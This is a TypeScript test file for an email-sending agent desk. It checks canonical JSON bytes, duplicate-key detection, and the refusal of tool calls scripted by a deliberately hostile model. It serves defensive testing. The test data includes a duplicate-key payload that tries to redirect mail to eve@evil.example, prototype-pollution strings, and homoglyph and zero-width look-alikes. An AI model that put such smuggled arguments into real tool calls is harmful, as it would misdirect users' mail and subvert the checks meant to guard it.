import fc from 'fast-check';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { hasDuplicateKeys } from '../../src/agent/raw-arguments.ts';
import { AIMessage } from '../../src/agent/langchain.ts';
import { listTurnCalls } from '../../src/calls/query.ts';
import { digestOf, toCanonicalBytes } from '../../src/db/canonical.ts';
import { measureAttack } from '../support/attack.ts';
import { clearOpen, createHostileModel, freshId } from '../support/attack-desk.ts';
import { startTestDesk, toolCalls, type TestDesk } from '../support/desk.ts';

describe('canonical bytes', () => {
  it('are the same for the same value whatever the order of its keys, and parse back to it', () => {
    fc.assert(
      fc.property(fc.jsonValue({ noUnicodeString: false }), (value) => {
        const text = JSON.stringify(value);
        fc.pre(!text.includes('\\u0000') && !/\\ud[89a-f]/i.test(text));
        const bytes = toCanonicalBytes(value);
        const shuffled: unknown = JSON.parse(text, (_, item: unknown) =>
          typeof item === 'object' && item !== null && !Array.isArray(item)
            ? Object.fromEntries(Object.entries(item).reverse())
            : item,
        );
        expect(toCanonicalBytes(shuffled).equals(bytes)).toBe(true);
        expect(toCanonicalBytes(JSON.parse(bytes.toString('utf8'))).equals(bytes)).toBe(true);
      }),
    );
  });

  it('differ for two different values', () => {
    const value = fc.jsonValue({ maxDepth: 2 });
    fc.assert(
      fc.property(value, value, (a, b) => {
        fc.pre(!/\\u0000|\\ud[89a-f]/i.test(JSON.stringify([a, b])));
        const same = toCanonicalBytes(a).equals(toCanonicalBytes(b));
        expect(digestOf(a).equals(digestOf(b))).toBe(same);
        if (same) expect(b).toEqual(JSON.parse(JSON.stringify(a)));
      }),
    );
  });

  it.each<[string, unknown, unknown]>([
    ['composed and decomposed letters', 'é', 'e\u0301'],
    ['a number and its text', 1, '1'],
    ['a letter of another script', 'paypal', 'pаypal'],
    ['a zero-width space', 'ab', 'a\u200bb'],
    ['an own __proto__ and none', JSON.parse('{"__proto__": {"a": 1}}'), {}],
  ])('tell apart %s', (_, a, b) => {
    expect(toCanonicalBytes(a).equals(toCanonicalBytes(b))).toBe(false);
  });

  it.each<[string, unknown, unknown]>([
    ['1.0 and 1', JSON.parse('1.0'), 1],
    ['1e2 and 100', JSON.parse('1e2'), 100],
    ['-0 and 0', -0, 0],
    ['a letter and its escape', JSON.parse('"\\u0061"'), 'a'],
  ])('do not tell apart %s, which run the same', (_, a, b) => {
    expect(toCanonicalBytes(a).equals(toCanonicalBytes(b))).toBe(true);
  });

  it.each<[string, unknown]>([
    ['undefined in an object', { a: undefined }],
    ['a Map', new Map([['a', 1]])],
    ['a Date', new Date(0)],
    ['NaN', Number.NaN],
    ['a number too large', JSON.parse('1e999')],
    ['a BigInt', 1n],
    ['a NUL', 'a\u0000'],
    ['a NUL in a key', { 'a\u0000': 1 }],
    ['half a surrogate pair', '\ud800'],
    ['half a surrogate pair in a key', { '\udc00': 1 }],
    ['something that writes itself otherwise', { toJSON: () => 'else' }],
    ['a class', new (class Thing {})()],
  ])('do not exist for %s', (_, value) => {
    expect(() => toCanonicalBytes(value)).toThrow();
  });
});

describe('a name that stands twice', () => {
  it.each([
    '{"to":"a","to":"b"}',
    '{"a":{"x":1,"x":2}}',
    '[{"a":1},{"a":1,"b":2,"a":3}]',
    '{"to":"a","\\u0074o":"b"}',
    '{"a" : "}", "a" : 1}',
    '{"a":"\\"","a":"b"}',
  ])('is found in %s', (text) => {
    expect(hasDuplicateKeys(text)).toBe(true);
  });

  it('is never seen where there is none', () => {
    fc.assert(
      fc.property(fc.jsonValue({ noUnicodeString: false }), (value) => {
        expect(hasDuplicateKeys(JSON.stringify(value, null, 1))).toBe(false);
      }),
    );
  });
});

describe('a hostile model’s spelling of its arguments', () => {
  let test: TestDesk;
  const model = createHostileModel();
  beforeAll(async () => {
    test = await startTestDesk(model);
    await test.connect('google-oauth2', 'U0BEN');
  });
  afterEach(() => clearOpen(test));
  afterAll(() => test.stop());

  const say = async (attack: string, messages: AIMessage[]) => {
    model.script = messages;
    let turn = '';
    const effects = await measureAttack(test, attack, messages.length, async () => {
      turn = await test.say('U0BEN', 'mail it');
      await test.desk.agent.run(turn);
    });
    const refused = await test.database.owner<{ outcome: string }[]>`
      select outcome from agentdesk.audit_events where turn_id = ${turn} and type = 'call.refused'`;
    return { effects, calls: await listTurnCalls(test.desk.deps, turn), refused };
  };
  const list = (args: Record<string, unknown>, id: string) =>
    toolCalls({ name: 'gmail_messages_list', args, id });

  it('another order of keys is the same call; another form of a letter is not', async () => {
    const id = freshId();
    const same = await say('key order', [list({ query: 'x', max: 2 }, id), list({ max: 2, query: 'x' }, id)]);
    expect([same.calls.length, same.refused.length]).toEqual([1, 0]);
    const other = freshId();
    const forms = await say('NFC, then NFD', [
      list({ query: 'é' }, other),
      list({ query: 'e\u0301' }, other),
    ]);
    expect(forms.calls).toHaveLength(1);
    expect(forms.refused.map(({ outcome }) => outcome)).toEqual(['tool_call_id_reused']);
  });

  it('the same id in another turn is another call, asked for by itself', async () => {
    const id = freshId();
    const mail = toolCalls({
      name: 'gmail_messages_send',
      args: { to: ['priya@acme.test'], subject: 'Once', text: 'x' },
      id,
    });
    const [first, second] = [
      await say('an id of another turn', [mail]),
      await say('the same id again', [mail]),
    ];
    expect(first.calls[0]?.status).toBe('pending');
    expect(second.calls[0]?.status).toBe('pending');
    expect(second.calls[0]?.code).not.toBe(first.calls[0]?.code);
    expect(first.effects + second.effects).toBe(0);
  });

  it('arguments that name a key twice are refused before they mean anything', async () => {
    const id = freshId();
    const text = '{"to":["priya@acme.test"],"subject":"a","text":"b","to":["eve@evil.example"]}';
    const doubled = new AIMessage({
      content: '',
      tool_calls: [
        {
          id,
          name: 'gmail_messages_send',
          args: JSON.parse(text) as Record<string, unknown>,
          type: 'tool_call',
        },
      ],
      additional_kwargs: {
        tool_calls: [{ id, type: 'function', function: { name: 'gmail_messages_send', arguments: text } }],
      },
    });
    const { calls, effects } = await say('a key twice', [doubled]);
    expect([calls.length, effects]).toEqual([0, 0]);
  });

  it.each<[string, string]>([
    ['a prototype', '{"query":"x","__proto__":{"max":500}}'],
    ['a constructor', '{"query":"x","constructor":{"prototype":{"max":500}}}'],
    ['a huge number', '{"query":"x","max":1e308}'],
    ['a number past all integers', '{"query":"x","max":9007199254740993}'],
    ['a fraction', '{"query":"x","max":1.5}'],
    ['a number as text', '{"query":"x","max":"5"}'],
    ['an array for the whole', '["x"]'],
  ])('%s does not become an argument', async (name, text) => {
    const { calls, refused } = await say(`arguments with ${name}`, [
      list(JSON.parse(text) as Record<string, unknown>, freshId()),
    ]);
    for (const call of calls) expect(call.args.toString('utf8')).not.toMatch(/500|prototype|constructor/);
    expect(calls.length + refused.length).toBeGreaterThan(0);
    expect(({} as Record<string, unknown>)['max']).toBeUndefined();
  });
});
